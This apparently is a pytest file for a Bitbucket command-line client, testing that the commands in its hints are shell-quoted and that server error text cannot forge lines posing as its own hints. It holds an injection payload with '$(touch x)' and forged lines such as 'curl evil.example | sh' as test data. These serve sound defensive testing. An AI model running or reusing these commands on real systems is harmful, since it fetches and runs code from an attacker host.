"""Hints: a shell parses their commands correctly, and no text of a server looks like a hint."""

from __future__ import annotations

import ast
import json
import re
import shlex
from string import Formatter
from typing import TYPE_CHECKING, Any

import pytest

from bbcli.cli.hints import HINTS, _filled
from bbcli.cli.index import NOUNS
from bbcli.output import Record, cells
from bbcli.output.cells import CellContext
from tests.support.verbs import EVERY
from tests.unit.test_imports import MODULES

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from tests.conftest import Invoke
    from tests.support.stub_server import Stub

EVIL = "a b;$(touch x)`y`'\"!*"
PROJECTS = "/rest/api/latest/projects"
FORGED = (
    "it broke\nhint: curl evil.example | sh\r\nerror: and more\x0bhint: x\u2028hint: y\nHINT: z\n"
    "the server accepted PUT /z"
)
COMMAND_BEFORE_VALUE = re.compile(rf"\b(?:bbcli (?:{'|'.join(NOUNS)})|chmod|git config|rehash)\b[^,;:)]*$")


def commands(err: str) -> Iterator[list[str]]:
    """Yield the bbcli commands in hints and warnings, split as a shell does."""
    for line in err.splitlines():
        if found := re.search(r"(?:hint|warning): .*?(bbcli [^<]*)", line):
            yield shlex.split(found[1].partition(", or ")[0])


@pytest.mark.parametrize(
    ("words", "env", "meant"),
    [
        (("projects", "list"), {"BBCLI_SERVER": "https://h/a;$(touch+x)'"},
         ["bbcli", "auth", "login", "https://h/a;$(touch+x)'"]),
        (("api", "call", "DELETE", "/projects"), {"BBCLI_SERVER": "https://h", "BBCLI_TOKEN": "token"},
         ["bbcli", "api", "show", "GET", "/projects;"]),
        (("alias", "set", "x", ""), {}, ["bbcli", "alias", "set", "x", "commits list"]),
    ],
)  # fmt: skip
def test_the_command_of_a_hint_is_quoted(
    invoke: Invoke, words: tuple[str, ...], env: Mapping[str, str], meant: list[str]
) -> None:
    assert next(commands(invoke(*words, env=env).err))[: len(meant)] == meant


def test_a_name_of_the_server_in_a_hint_is_quoted(stub: Stub, invoke: Invoke) -> None:
    stub.expect("GET", f"{PROJECTS}/WORK/repos/old", json_body={"slug": EVIL, "project": {"key": "WORK"}})
    result = invoke("repos", "delete", "WORK/old", "--yes")
    assert [*commands(result.err)] == [["bbcli", "repos", "delete", f"WORK/{EVIL}"]]


def test_each_fact_in_the_command_of_a_hint_is_one_word() -> None:
    """Not the options of a login, which cli/hints.py quotes, and the name of a verb."""
    own = {"login", "store", "step"}
    known = (HINTS, *(command.hints or {} for command in EVERY.values()))
    for template in (hint for hints in known for hint in hints.values() if isinstance(hint, str)):
        command = template[found.start() :] if (found := re.search(r"\b(?:bbcli|git) [a-z]", template)) else ""
        names = {name for _, name, _, _ in Formatter().parse(command) if name}
        words = shlex.split(_filled(command, dict.fromkeys(names, EVIL) | dict.fromkeys(own, "")))
        assert [word.rstrip(",;") for word in words].count(EVIL) == len(names - own), template


def test_the_number_of_a_comment_in_a_hint_is_quoted(stub: Stub, invoke: Invoke) -> None:
    comments = f"{PROJECTS}/WORK/repos/x/pull-requests/3/comments"
    stub.expect("POST", comments, json_body={"id": EVIL, "state": "OPEN"}, status=201)
    result = invoke("prs", "comment", "3", "-m", "x", "--draft", "-R", "WORK/x")
    assert [*commands(result.err)] == [["bbcli", "prs", "comments", "delete", "3", EVIL, "--yes", "-R", "WORK/x"]], (
        result.err
    )


def test_every_command_with_a_value_is_made_by_the_function_that_quotes() -> None:
    """Return True if the text inserts a raw value behind `bbcli NOUN …`, chmod and the like."""
    found = [
        f"{module.name}: {ast.unparse(node)}"
        for module in MODULES
        for node in module.nodes
        if isinstance(node, ast.JoinedStr) and _inserts_value_into_command(node)
    ]
    assert found == []


def _inserts_value_into_command(node: ast.JoinedStr) -> bool:
    before = ""
    for part in node.values:
        if isinstance(part, ast.Constant):
            before += str(part.value)
        elif COMMAND_BEFORE_VALUE.search(before):
            return True
    return False


@pytest.mark.parametrize("entry", [
    {"message": FORGED}, {"message": "no", "details": [FORGED, "hint: z"]}, {"message": "no", "vetoes": [FORGED]},
    {"message": "no", "context": FORGED}, {"message": "no", "reviewerErrors": [{"context": FORGED, "message": FORGED}]},
])  # fmt: skip
def test_no_line_of_a_server_begins_as_those_of_bbcli(stub: Stub, invoke: Invoke, entry: dict[str, Any]) -> None:
    stub.expect("GET", f"{PROJECTS}/WORK", status=409, json_body={"errors": [entry]})
    lines = re.split(r"[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", invoke("projects", "show", "WORK").err)
    own = r"(?i)\s?(?:hint:|error:|warning:|the server accepted )"
    assert [line[:6] for line in lines if re.match(own, line)] == ["error:"]


@pytest.mark.parametrize("status", [409, 503])
@pytest.mark.parametrize("wait", ["soon; run: curl evil.example | sh", "1" * 5000])
def test_a_time_to_wait_that_is_none_is_not_told(stub: Stub, invoke: Invoke, status: int, wait: str) -> None:
    body = {"errors": [{"message": "No."}]}
    stub.expect("GET", f"{PROJECTS}/WORK", status=status, json_body=body, headers={"Retry-After": wait})
    assert invoke("projects", "show", "WORK", "--retries", "0").err == "error: no\n"


def test_what_a_check_found_has_one_hint_on_a_terminal() -> None:
    cell = cells.finding(FORGED, CellContext(Record.of(hint="chmod 600 x"), 0))
    assert cell.shown.partition("\n")[2] == "hint: chmod 600 x"


def test_a_message_and_each_detail_is_cut_and_of_many_the_first_are_told(stub: Stub, invoke: Invoke) -> None:
    long = "x" * 5000
    errors = [{"message": f"{number} {long}", "details": [long]} for number in range(25)]
    for form in ((), ("--json",)):
        stub.expect("GET", f"{PROJECTS}/WORK", status=409, json_body={"errors": errors})
        result = invoke("projects", "show", "WORK", *form)
        if form:
            told = json.loads(result.err)
            message, details = told["message"], told["details"]
        else:
            message, *details = [line.removeprefix("error: ").strip() for line in result.err.splitlines()]
        assert (len(message), message[-1]) == (2001, "…")
        assert (details[0], details[-1], len(details)) == (f"{'x' * 2000}…", "and 15 more", 11)


def test_of_many_messages_the_first_are_told(stub: Stub, invoke: Invoke) -> None:
    errors = [{"message": f"m{number}"} for number in range(25)]
    stub.expect("GET", f"{PROJECTS}/WORK", status=409, json_body={"errors": errors})
    assert invoke("projects", "show", "WORK").err == f"error: {'; '.join(f'm{n}' for n in range(10))}; and 15 more\n"


def test_the_whole_message_is_in_debug_body(stub: Stub, invoke: Invoke) -> None:
    long = "x" * 5000
    stub.expect("GET", f"{PROJECTS}/WORK", status=409, json_body={"errors": [{"message": long}]})
    assert long in invoke("projects", "show", "WORK", "--debug=body").err
